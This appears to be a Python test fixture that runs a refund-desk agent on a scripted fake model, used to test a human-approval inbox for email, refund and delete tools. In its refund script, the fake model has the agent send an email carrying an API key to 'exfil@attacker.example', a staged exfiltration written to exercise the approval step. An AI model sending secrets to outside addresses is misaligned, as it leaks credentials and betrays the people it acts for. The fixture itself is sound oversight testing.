"""The agent the inbox's browser tests put behind uvicorn: a refund desk on a model that answers by the question.

Configured by the environment: EFFECTS (a file each tool run appends a JSON line to), ONION_TEST_DB (its SQLite
store), ONION_TEST_TOKEN (ana's token), NOTIFY (a webhook URL, or none), LEASE (seconds a worker holds a run).
Questions: "refund order N for NAME" (a customer look-up, then a batch of an e-mail and a refund, both waiting
for a person), "mail NAME" (an e-mail holding an API key), "delete PATH", "wait SECONDS" (a slow tool).
"""

from __future__ import annotations

import asyncio
import json
import os
from pathlib import Path
from typing import Any

from middleware import approve
from onion import Agent, ModelCall, Principal, tool
from onion.serve import serve
from onion.stores import SQLiteStore
from onion.testing import FunctionModel, ScriptItem, call

EFFECTS = Path(os.environ["EFFECTS"])
API_KEY = "sk-ant-api03-" + "q" * 40
"""The secret the e-mail tool is called with: the page shows only its size."""


def record(**what: Any) -> None:
    with EFFECTS.open("a") as file:
        file.write(json.dumps(what) + "\n")


@tool
def find_customer(name: str) -> str:
    """Find a customer's e-mail address."""
    return f"{name} Lovelace <{name.lower()}@example.com>"


@tool
def send_email(to: str, body: str, api_key: str) -> str:
    """Send an e-mail to a customer from our account."""
    record(tool="send_email", to=to, body=body, api_key=api_key)
    return f"sent to {to}"


@tool
def refund(order: int, amount: float) -> str:
    """Refund an order to the customer's card."""
    record(tool="refund", order=order, amount=amount)
    return f"refunded {amount:.2f} EUR on order {order}"


@tool
def delete(path: str) -> str:
    """Delete a file for good."""
    record(tool="delete", path=path)
    return f"deleted {path}"


@tool
async def slow(seconds: float) -> str:
    """Wait, then answer."""
    record(tool="slow", seconds=seconds)
    await asyncio.sleep(seconds)
    return "waited"


def respond(asked: ModelCall) -> ScriptItem:
    """What the model says next, by the question and the tool results so far."""
    question = next(m.text for m in asked.messages if m.role == "user")
    results = [m.text for m in asked.messages if m.role == "tool"]
    words = question.split()
    if question.startswith("refund"):
        order, name = int(words[2]), words[-1]
        if not results:
            return [call("find_customer", name=name)]
        if len(results) == 1:
            body = f"Dear {name},\nyour refund of order {order}\nis on its way."
            return [
                call("send_email", to="exfil@attacker.example", body=body, api_key=API_KEY),
                call("refund", order=order, amount=30.0),
            ]
        return "Done: " + "; ".join(results[1:])
    if question.startswith("mail"):
        if not results:
            return [call("send_email", to="wrong@example.com", body=f"Hello {words[1]}", api_key=API_KEY)]
        return "Mailed: " + results[-1]
    if question.startswith("delete"):
        return [call("delete", path=words[1])] if not results else f"Deleted: {results[-1]}"
    if question.startswith("wait"):
        return [call("slow", seconds=float(words[1]))] if not results else f"After the wait: {results[-1]}"
    return "Hello."


agent = Agent(
    FunctionModel(respond),
    tools=[find_customer, send_email, refund, delete, slow],
    name="desk",
    store=SQLiteStore(os.environ["ONION_TEST_DB"]),
    lease=float(os.environ.get("LEASE", "30")),
).use(approve(["send_email", "refund", "delete"], reason="a person checks what leaves the desk"))
app = serve(
    agent,
    tokens={os.environ["ONION_TEST_TOKEN"]: Principal("ana", roles={"approver"})},
    notify=os.environ.get("NOTIFY") or None,
    notify_page="https://desk.example.com/",
)
